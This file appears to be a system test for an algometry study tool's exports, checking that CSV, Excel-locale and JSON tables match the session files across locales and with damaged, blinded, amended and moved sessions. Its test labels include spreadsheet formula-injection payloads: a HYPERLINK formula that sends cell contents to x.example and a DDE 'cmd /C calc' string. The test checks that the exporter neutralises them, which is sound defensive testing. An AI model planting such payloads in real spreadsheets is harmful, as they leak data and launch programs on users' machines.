# SPDX-License-Identifier: GPL-3.0-or-later
# Tables out of a study: CSV, JSON and the session files hold the same numbers to the last bit, on a German and a
# Turkish machine too; hostile labels stay texts; blinded, damaged, moved and amended sessions are what they should be.
. tests/system/lib.inc
S=$T/study
"$A" init "$S" --id test >/dev/null || fail "init"

# A study's own sites, whose labels are formulas, separators and letters of other languages.
header=$(grep '^code' "$ALGOMETER_DATA/sites/sites.tsv")
cell() { # value of a column of a made-up site
	case $1 in
	code) printf %s "$2" ;; label | landmark) printf %s "$3" ;; muscle) printf m ;; side) printf R ;; view) printf posterior ;;
	x | y) printf 0.6 ;; ceiling_kpa) printf 1000 ;; posture) printf sitting ;; source) printf test ;;
	esac
}
cat >"$T/labels" <<'L'
=HYPERLINK("http://x.example/?"&A1,"click")
+1+cmd|' /C calc'!A0
-2+3
@SUM(A1:A9)
'quoted, with "quotes"; and
Nackenmuskel (groß) — ılık İğne
L
{
	printf '%s\n' "$header"
	n=0
	while IFS= read -r label; do
		n=$((n + 1))
		sep=
		for column in $(printf '%s' "$header" | tr '\t' ' '); do
			printf '%s' "$sep"
			cell "$column" "HOST${n}_R" "$label"
			sep=$(printf '\t')
		done
		echo
	done <"$T/labels"
} >"$S/sites.tsv"
for n in 1 2 3 4 5 6; do
	expect 0 . "$A" points P012 add "HOST${n}_R" --role target --study "$S"
done
for code in P001 P013 P014; do
	expect 0 . "$A" points $code add UTRAP_R --role target --primary --study "$S"
done

rec() { # CODE DAY MORE...
	code=$1 day=$2
	shift 2
	expect 0 . "$A" record "$code" --study "$S" --yes --plain --clock "2026-03-${day}T09:30:00+01:00" "$@"
}
rec P001 02 --device sim:mark10?seed=1 --ratings pain-now=4,sleep=6
rec P001 05 --acq pre --device sim:mark10?seed=2
rec P001 05 --acq post --device 'sim:mark10?seed=3&threshold=2000'
rec P001 16 --procedure threshold-tolerance --device sim:mark10?seed=4
rec P001 20 --procedure hold-rating --device sim:mark10?seed=5
rec P012 02 --device sim:mark10?seed=6
rec P013 02 --device sim:mark10?seed=7 --blinded
rec P013 09 --device sim:mark10?seed=8
rec P014 02 --device sim:mark10?seed=9
rec P014 09 --device sim:mark10?seed=10
rec P014 23 --device sim:mark10?seed=11
F=$S/sub-P001/ses-01/sub-P001_ses-01_algometry.h5
expect 0 . "$A" amend "$F" status rejected --press 2 --why slipped --who E1
expect 0 . "$A" amend "$S/sub-P014/ses-03/sub-P014_ses-03_algometry.h5" participant P015 --why 'mixed up' --who E1

expect 0 . "$A" treatment P001 add --modality myofascial-release --dose unique-dose --day 2026-03-05 --study "$S"

# ---- a whole study ----
expect 0 '11 sessions, 11 simulated, 1 blinded and without values; 1 moved' "$A" export all --study "$S" --out "$T/csv"
expect 0 'schema.json' "$A" export all --study "$S" --out "$T/json" --json
expect 0 'what the columns are' "$A" export all --study "$S" --out "$T/excel" --excel-locale
[ -z "$(find "$T/csv" "$T/json" "$T/excel" -type f ! -perm 600)$(find "$T/csv" "$T/json" "$T/excel" -name '.*')" ] ||
	fail "files are not 0600, or a temporary one was left"
"$A" show P001 --session 1 --json --study "$S" >"$T/show.json" || fail "show"
"$A" export presses P001 --original --study "$S" >"$T/original.csv" || fail "export --original"
"$A" export points P001 --rule median --study "$S" --json >"$T/median.json" || fail "export --rule"

cat >"$T/check.py" <<'P'
import copy, csv, glob, h5py, io, json, math, os, sys
import jsonschema
t, s = sys.argv[1:]
KINDS = ["presses", "measures", "points", "ratings", "events", "sessions"]

def table(path, sep=",", mark=""):
    raw = open(path, "rb").read()
    assert raw.startswith(mark.encode()) and raw.startswith("\ufeff".encode()) == bool(mark), path
    raw = raw[len(mark.encode()):]
    assert raw.endswith(b"\r\n") and raw.count(b"\n") == raw.count(b"\r\n") == len(list(csv.reader(io.StringIO(raw.decode(), newline=""), delimiter=sep)))
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""), delimiter=sep, strict=True))

dictionary = {(r["table"], r["column"]): r for r in table(t + "/csv/dictionary.csv")}
schema = json.load(open(t + "/json/schema.json"))
jsonschema.Draft202012Validator.check_schema(schema)
validator = jsonschema.Draft202012Validator(schema)

def same(text, value, kind):  # a cell of the CSV against the JSON's
    if value is None:
        return text == ""
    if kind["type"] == "text":
        guarded = value.lstrip(" ")[:1] in tuple("=+-@\t\r\n'")
        return isinstance(value, str) and text == ("'" if guarded else "") + value
    return not isinstance(value, str) and float(text) == value

rows, counted = {}, 0
for k in KINDS:
    doc = json.load(open(f"{t}/json/{k}.json"))
    assert (doc["algometer"], doc["version"], doc["table"]) == ("export", 1, k)
    validator.validate(doc)
    for spoil in ("gone", "more", "text", "word"):  # the schema says no
        bad = copy.deepcopy(doc)
        bad["rows"] = bad["rows"][:1]
        row = bad["rows"][0]
        {"gone": lambda: row.pop("seal"), "more": lambda: row.update(extra=1), "text": lambda: row.update(session="1"),
         "word": lambda: row.update(basis="guessed")}[spoil]()
        assert not validator.is_valid(bad), (k, spoil)
    cells, comma = table(f"{t}/csv/{k}.csv"), table(f"{t}/excel/{k}.csv", ";", "\ufeff")
    assert len(cells) == len(doc["rows"]) == len(comma) > 0, k
    names = list(cells[0])
    assert names == list(doc["rows"][0]) == [c for (tab, c) in dictionary if tab == k], k
    for a, b, c in zip(cells, doc["rows"], comma):
        for n in names:
            kind = dictionary[k, n]
            assert same(a[n], b[n], kind), (k, n, a[n], b[n])
            if kind["type"] == "text":
                assert a[n] == c[n], (k, n)
                if b[n] is not None and kind["codes"]:
                    words = [w.split("=")[0] for w in kind["codes"].split("; ")]
                    assert set(b[n].split(" ") if n == "quality" else [b[n]]) <= set(words), (k, n, b[n])
            else:
                assert "." not in c[n] and c[n].replace(",", ".") == a[n], (k, n)
            counted += 1
    rows[k] = doc["rows"]
assert counted > 20000, counted
for (tab, c), r in dictionary.items():
    assert r["description"] and r["type"] and (tab == "*" or r["source"]), (tab, c)
    assert tab == "*" or (r["units"] != "") == (r["type"] != "text"), (tab, c, r)

# The session files themselves, read by another program.
checked = 0
for path in glob.glob(s + "/sub-*/ses-*/*.h5"):
    name = os.path.relpath(path, s)
    with h5py.File(path) as f:
        mine = [r for r in rows["presses"] if r["file"] == name]
        if "sub-P014/ses-03" in name:
            assert not mine and all(r["file"] != name for k in KINDS for r in rows[k])  # moved
            continue
        assert [r["trial"] for r in mine] == list(f["results/trial"][()]), name
        if f.attrs["blinded"]:
            continue
        for n in ("ppt_n", "rate_kpa_s", "corridor_share", "overshoot_kpa", "interval_s", "uncertainty_kpa", "ceiling_kpa", "ptt_kpa", "rating",
                  "hold_kpa", "t_response_s"):
            for i, v in enumerate(f["results/" + n][()]):
                assert mine[i][n] is None if math.isnan(v) else mine[i][n] == v, (name, n, i)
                checked += 1
        for i, r in enumerate(mine):
            st, kind = f["results/status"][i], f["results/kind"][i]
            v = math.nan if st == 4 or kind == 4 else f["results/ceiling_kpa"][i] if st == 3 else f["results/ppt_kpa"][i]
            assert r["value"] is None if math.isnan(v) else r["value"] == v, (name, i)
            assert r["units"] == "kPa" and r["bound"] == (None if math.isnan(v) else int(r["status"] == "censored"))
            assert (r["value"] is not None) or r["reason"], (name, i)
        assert mine[0]["seal"] == f.attrs["seal"][:8]
assert checked > 1000

p001 = [r for r in rows["presses"] if r["participant"] == "P001"]
assert sorted({r["days_since_first"] for r in p001}) == [0, 3, 14, 18]
assert {"accepted", "rejected", "censored"} <= {r["status"] for r in p001}
assert {"familiarisation", "hold", "threshold"} <= {r["kind"] for r in p001} | {"familiarisation"}
assert any(r["kind"] == "hold" and r["rating"] is not None and r["value"] is None and r["reason"] == "hold" for r in p001)
assert any(r["ptt_kpa"] is not None for r in p001)
assert any(r["bound"] == 1 and r["value"] == r["ceiling_kpa"] for r in p001)
assert any(r["bound"] == 1 for r in rows["points"])
# the amendment, applied and not
second = [r for r in p001 if r["session"] == 1][1]
assert (second["status"], second["reason"], second["basis"], second["used"]) == ("rejected", "examiner", "amended", 0)
was = list(csv.DictReader(open(t + "/original.csv", newline="")))[1]
assert (was["status"], was["basis"], was["used"]) == ("accepted", "original", "1")
# as `show` tells it
shown = json.load(open(t + "/show.json"))["sessions"][0]["points"]
mine = [r for r in rows["points"] if r["participant"] == "P001" and r["session"] == 1]
assert [(q["site"], q["ppt_kpa"], q["used"], q["rejected"], q["sd_kpa"], q["min_kpa"]) for q in shown] == \
    [(r["site_code"], r["value"], r["n_used"], r["n_rejected"], r["sd_kpa"], r["min_kpa"]) for r in mine]
assert {r["rule"] for r in json.load(open(t + "/median.json"))["rows"]} == {"median"}
assert [r["value"] for r in rows["ratings"] if r["participant"] == "P001" and r["session"] == 1 and r["item"] == "pain-now"] == [4]

# long and wide say the same
wide = {(r["file"], r["trial"]): r for r in rows["presses"]}
for r in rows["measures"]:
    assert wide[r["file"], r["trial"]][r["variable"]] == r["value"], r
    assert r["units"] == dictionary["presses", r["variable"]]["units"] and (r["value"] is not None or r["reason"])

# blinded and not unblinded: no number that was measured, and no time
for k in KINDS:
    blinded = [r for r in rows[k] if r["blinded"]]
    assert blinded and all(r["reason"] == "blinded" for r in blinded), k
    for r in blinded:
        told = {n for n in r if r[n] is not None and isinstance(r[n], (int, float))}
        assert told <= {"session", "run", "days_since_first", "series", "primary", "trial", "round", "press", "simulated", "blinded",
                        "amendments", "tip_area_cm2", "along_mm", "across_mm", "complete", "rounds", "interval_s", "order_seed",
                        "device_resolution_n", "device_capacity_n", "device_rate_hz"}, (k, told)
        assert not [n for n in ("contact_time", "time", "quality", "note") if r.get(n)], k

# the labels are texts again
labels = open(t + "/labels", encoding="utf-8").read().splitlines()
raw = {r["label"] for r in table(t + "/csv/presses.csv") if r["participant"] == "P012"}
want = {("'" if x[0] in "=+-@'" else "") + x for x in labels}
assert want <= raw and not [x for x in raw if x[0] in "=+-@"], raw
everything = b"".join(open(p, "rb").read() for p in glob.glob(t + "/csv/*") + glob.glob(t + "/json/*"))
assert s.encode() not in everything and b"/sub-" in everything
assert b"myofascial-release" not in everything and b"unique-dose" not in everything
try:
    import pandas
except ImportError:
    sys.exit(0 if os.environ.get("CI") != "true" else "pandas is not installed")
for k in KINDS:
    for how in (dict(filepath_or_buffer=f"{t}/csv/{k}.csv"), dict(filepath_or_buffer=f"{t}/excel/{k}.csv", sep=";", decimal=",")):
        frame = pandas.read_csv(float_precision="round_trip", keep_default_na=False, na_values=[""], **how)
        for n in frame:
            if dictionary[k, n]["type"] == "text":
                continue
            got = pandas.to_numeric(frame[n])
            for g, r in zip(got, rows[k]):
                assert math.isnan(g) if r[n] is None else g == r[n], (k, n, g, r[n])
P
"$PY" "$T/check.py" "$T" "$S" || fail "the tables are not what was measured"

# ---- other machines: made here, in a folder of our own ----
mkdir "$T/locales"
export ASAN_OPTIONS=detect_leaks=0${ASAN_OPTIONS:+:$ASAN_OPTIONS} # setlocale of the C library keeps LOCPATH to itself
for name in de_DE tr_TR; do
	localedef -i $name -f UTF-8 "$T/locales/$name.UTF-8" >"$T/out" 2>&1 || fail "localedef $name: $(cat "$T/out")"
	LOCPATH=$T/locales LC_ALL=$name.UTF-8 expect 0 sessions "$A" export all --study "$S" --out "$T/csv-$name"
	LOCPATH=$T/locales LC_ALL=$name.UTF-8 expect 0 sessions "$A" export all --study "$S" --out "$T/excel-$name" --excel-locale
	LOCPATH=$T/locales LC_ALL=$name.UTF-8 expect 0 sessions "$A" export all --study "$S" --out "$T/json-$name" --json
	for form in csv excel json; do
		diff -r "$T/$form" "$T/$form-$name" >"$T/out" || fail "$form is another under $name: $(head -n 3 "$T/out")"
	done
	LOCPATH=$T/locales LC_ALL=$name.UTF-8 "$PY" - "$T" <<'P' || fail "$name reads other numbers"
import csv, json, locale, sys
locale.setlocale(locale.LC_ALL, "")
assert locale.localeconv()["decimal_point"] == ",", locale.localeconv()
t, n = sys.argv[1], 0
for k in ("presses", "points", "measures"):
    with open(f"{t}/excel/{k}.csv", encoding="utf-8-sig", newline="") as f:
        for a, b in zip(csv.DictReader(f, delimiter=";"), json.load(open(f"{t}/json/{k}.json"))["rows"]):
            for c in b:
                if isinstance(b[c], (int, float)):
                    assert locale.atof(a[c]) == b[c], (k, c, a[c], b[c])
                    n += 1
assert n > 5000, n
P
done

# ---- a damaged file among them ----
D=$S/sub-P014/ses-01/sub-P014_ses-01_algometry.h5
cp "$D" "$T/whole.h5"
head -c 9000 "$T/whole.h5" >"$D"
expect 4 'sub-P014_ses-01_algometry.h5' "$A" export presses points --study "$S" --out "$T/rest"
grep -q '10 sessions' "$T/both" || fail "the others are not exported: $(cat "$T/both")"
"$PY" - "$T" <<'P' || fail "a damaged first session"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1] + "/rest/points.csv", newline="")))
assert {r["session"] for r in rows if r["participant"] == "P014"} == {"2"}
assert {r["days_since_first"] for r in rows if r["participant"] == "P014"} == {""}  # its first day is not known
assert {r["days_since_first"] for r in rows if r["participant"] == "P001"} == {"0", "3", "14", "18"}
P
expect 4 'sub-P014_ses-01' "$A" export presses "$D" --out "$T/none.csv"
[ ! -e "$T/none.csv" ] && [ ! -e "$T/none.dictionary.csv" ] || fail "a file was made of nothing"
cp "$T/whole.h5" "$D"
"$PY" - "$D" <<'P'
import h5py, sys
with h5py.File(sys.argv[1], "r+") as f: f["results/rate_kpa_s"][0] = float("inf")
P
expect 4 'rate_kpa_s.* is infinite|damaged' "$A" export presses P014 --study "$S"
! grep -qi '[^a-z]inf[^a-z]' "$T/out" || fail "an infinity was written"
cp "$T/whole.h5" "$D"

# ---- a file by itself: its place in the study, and no first day that nobody looked for ----
(cd "$S/sub-P001/ses-03" && "$A" export points sub-P001_ses-03_algometry.h5) >"$T/alone.csv" || fail "a file by itself"
"$PY" -c "
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
assert rows and all(r['file'].startswith('sub-P001/ses-03/sub-') and r['days_since_first'] == '' for r in rows), rows" "$T/alone.csv" ||
	fail "a file by itself is placed wrongly"

# ---- a session that is unblinded has its values ----
expect 0 . "$A" unblind P013/1 --who mon1 --reason "query 7" --study "$S"
"$A" export points P013 --study "$S" >"$T/open.csv" || fail "unblinded"
"$PY" -c "
import csv, sys
rows = [r for r in csv.DictReader(open(sys.argv[1], newline='')) if r['session'] == '1']
assert rows and all(float(r['value']) > 0 and r['blinded'] == '1' and r['reason'] == '' for r in rows), rows" "$T/open.csv" || fail "unblinded values"

# ---- thousands of files: the same bytes with an index and without, a bar only on a terminal, ^C, little memory ----
mkdir "$T/many"
"$A" init "$T/many" --id many >/dev/null
"$PY" - "$A" "$T" "$S" <<'P' || fail "many files"
import glob, os, pty, signal, subprocess, sys, time
program, T, S = sys.argv[1:]
first = glob.glob(S + "/sub-P001/ses-01/*.h5")[0]
FILES = 1500

def place(i):
    return "%s/many/sub-P001/ses-%02d/sub-P001_ses-%02d_algometry.h5" % (T, i, i)

for i in range(1, FILES + 1):
    os.makedirs(os.path.dirname(place(i)), 0o700)
    os.link(first, place(i))
os.unlink(place(700))
open(place(700), "wb").write(open(first, "rb").read()[:-5000])
words = [program, "export", "presses", "points", "--study", T + "/many", "--out"]

def run(to, **how):
    r = subprocess.run(words + [T + "/" + to], capture_output=True, text=True, **how)
    return r.returncode, r.stdout, r.stderr

def table(to):
    return [open("%s/%s/%s" % (T, to, name), "rb").read() for name in ("presses.csv", "points.csv")]

def said_one(err):
    assert err.count("algometer: error") == 1 and err.count("ses-700_") == 1, err

time.sleep(max(0, os.stat(first).st_ctime + 3 - time.time()))  # the index takes no file that changed a moment ago
code, out, err = run("made")
assert code == 4 and "%d sessions" % (FILES - 1) in out, (code, out, err)
said_one(err)
assert "[#" not in err and "\r" not in err, "a bar where there is no terminal"
entries = os.listdir(T + "/many/.algometer-cache")
assert len(entries) == FILES - 1, len(entries)
code, out, err = run("again")
assert code == 4 and table("again") == table("made"), "the index changes the table"
said_one(err)

# another file under that name: the index must not know it
os.unlink(place(3))
os.link(glob.glob(S + "/sub-P001/ses-04/*.h5")[0], place(3))
assert run("changed")[0] == 4 and table("changed") != table("made"), "an old summary was believed"
os.rename(T + "/many/.algometer-cache", T + "/old-cache")
assert run("without")[0] == 4 and table("without") == table("changed")

# a terminal has a bar, and at the end nothing of it
master, side = pty.openpty()
subprocess.run(["stty", "cols", "100"], stdin=side, check=True)
os.rename(T + "/many/.algometer-cache", T + "/older-cache")
p = subprocess.Popen(words + [T + "/seen"], stdout=subprocess.DEVNULL, stderr=side)
os.close(side)
seen = b""
try:
    while piece := os.read(master, 65536):
        seen += piece
except OSError:  # the other end is closed
    pass
assert p.wait() == 4
assert b"reading sessions [" in seen and b"of %d" % FILES in seen and b"ses-700_" in seen, seen
assert seen.endswith(b" \r"), seen[-200:]

# ^C leaves nothing of a table, new or old
before = table("made")
os.rename(T + "/many/.algometer-cache", T + "/oldest-cache")
os.mkdir(T + "/stopped")
for to in ("stopped", "made"):
    there = sorted(os.listdir(T + "/" + to))
    p = subprocess.Popen(words + [T + "/" + to], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    while p.poll() is None and len(os.listdir(T + "/" + to)) == len(there):
        time.sleep(0.01)
    p.send_signal(signal.SIGINT)
    p.communicate()
    assert p.returncode == 130, p.returncode
    assert sorted(os.listdir(T + "/" + to)) == there, os.listdir(T + "/" + to)
assert table("made") == before

# files by themselves are in no study: no index is made beside them
elsewhere = T + "/elsewhere"
os.mkdir(elsewhere)
for i in range(40):
    os.link(first, "%s/%d.h5" % (elsewhere, i))
r = subprocess.run([program, "export", "points"] + ["%s/%d.h5" % (elsewhere, i) for i in range(41)], capture_output=True, text=True)
assert r.returncode == 1 and "40.h5" in r.stderr and r.stdout.count("\n") > 40, (r.returncode, r.stderr)
assert len(os.listdir(elsewhere)) == 40

# memory at a tenth of the files and at all of them; a sanitizer keeps what was freed
def peak_kb(words):
    pid = os.fork()
    if pid == 0:
        sink = os.open(os.devnull, os.O_WRONLY)
        os.dup2(sink, 1)
        os.dup2(sink, 2)
        os.execv(program, words)
    return os.wait4(pid, 0)[2].ru_maxrss

if "/asan/" not in program and "/tsan/" not in program:
    few = peak_kb([program, "export", "presses"] + [place(i) for i in range(1, FILES // 10)])
    many = peak_kb([program, "export", "presses", "--study", T + "/many"])
    assert many < few + 4000, (few, many)
P

# ---- what is there already ----
expect 0 'presses' "$A" export presses --study "$S" --out "$T/csv"
printf 'participant,session,acq\r\nmine,1,\r\n' >"$T/mine.csv"
cp "$T/mine.csv" "$T/mine.before"
expect 1 'not replaced' "$A" export points --study "$S" --out "$T/mine.csv"
cmp -s "$T/mine.csv" "$T/mine.before" || fail "a foreign table was changed"
mkdir "$T/held" && echo 'table,column' >"$T/held/dictionary.csv"
expect 1 'not replaced' "$A" export points --study "$S" --out "$T/held"
[ "$(ls -A "$T/held")" = dictionary.csv ] || fail "something was left beside a foreign dictionary: $(ls -A "$T/held")"
expect 1 'folder cannot be made' "$A" export points --study "$S" --out "$T/labels"

# ---- what was typed ----
expect 2 'needs a table' "$A" export --study "$S"
expect 2 "'pressses' is not presses" "$A" export pressses --study "$S"
expect 2 'needed for several' "$A" export presses points --study "$S"
expect 2 'holds one table' "$A" export presses points --study "$S" --out "$T/two.csv"
expect 2 'must end in .json' "$A" export presses --study "$S" --out "$T/two.csv" --json
expect 2 'does not go with' "$A" export presses --study "$S" --json --excel-locale
expect 2 'not in the study' "$A" export presses P099 --study "$S"
"$A" init "$T/empty" --id empty >/dev/null
expect 1 'no session to export' "$A" export all --study "$T/empty" --out "$T/nothing"
[ -z "$(ls -A "$T/nothing")" ] || fail "tables of nothing"
finish
